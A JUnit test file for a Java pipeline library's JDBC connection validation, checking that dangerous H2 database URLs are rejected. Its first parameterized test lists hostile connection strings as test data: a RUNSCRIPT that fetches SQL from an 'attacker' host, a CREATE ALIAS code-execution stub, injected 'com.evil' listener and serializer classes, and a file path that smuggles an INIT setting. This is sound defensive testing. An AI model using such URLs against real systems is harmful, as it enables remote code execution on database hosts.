package dev.pipeline.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ConnectionsTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker/evil.sql'",
        "jdbc:h2:mem:x;init=CREATE ALIAS EXEC AS 'void e(String c) throws Exception {}'",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1; INIT =CREATE TABLE x(a INT)",
        "jdbc:h2:file:/tmp/x;runscript from 'x.sql'",
        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='com.evil.Listener'",
        "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='com.evil.Serializer'",
        "jdbc:h2:mem:x;AUTHENTICATOR=com.evil.Auth",
        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
        "JDBC:H2:mem:x;Init=SELECT 1"
      })
  void h2UrlsThatRunScriptsOrLoadClassesAreRejected(String url) {
    assertThatThrownBy(() -> JdbcPipelineStore.builder().jdbcUrl(url, "sa", ""))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("H2 URL rejected");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1",
        "jdbc:h2:file:/tmp/data/x;WRITE_DELAY=0;MODE=PostgreSQL",
        "jdbc:postgresql://127.0.0.1:5432/test?user=postgres&ApplicationName=INIT"
      })
  void ordinaryUrlsAreAccepted(String url) {
    assertThatCode(() -> Connections.checkUrl(url)).doesNotThrowAnyException();
  }

  @Test
  void anH2FileUrlWritesEachCommitAndCannotCarrySettingsInItsPath() {
    assertThat(Connections.h2FileUrl(Path.of("/data/pipeline.mv.db")))
        .isEqualTo("jdbc:h2:file:/data/pipeline;WRITE_DELAY=0");
    assertThatThrownBy(() -> JdbcPipelineStore.builder().h2File(Path.of("/tmp/x;INIT=SELECT 1")))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("';'");
  }

  @Test
  void theBuilderTakesOneDatabaseAndChecksItsSettings() {
    JdbcPipelineStore.Builder builder =
        JdbcPipelineStore.builder().jdbcUrl("jdbc:h2:mem:a", null, null);
    assertThatThrownBy(() -> builder.h2File(Path.of("x")))
        .isInstanceOf(IllegalStateException.class)
        .hasMessageContaining("already set");
    assertThatThrownBy(() -> JdbcPipelineStore.builder().build())
        .isInstanceOf(IllegalStateException.class)
        .hasMessageContaining("no database");
    assertThatThrownBy(() -> builder.leaseDuration(java.time.Duration.ofMillis(10)))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> builder.workerId(" ")).isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> builder.dataSource(null))
        .isInstanceOf(NullPointerException.class)
        .hasMessage("dataSource cannot be null");
    builder.schema("etl");
    assertThatThrownBy(() -> builder.schema("etl"))
        .isInstanceOf(IllegalStateException.class)
        .hasMessage("schema was already set");
    assertThat(Connections.defaultWorkerId()).matches(".+-\\d+-[0-9a-f]{6}");
  }
}
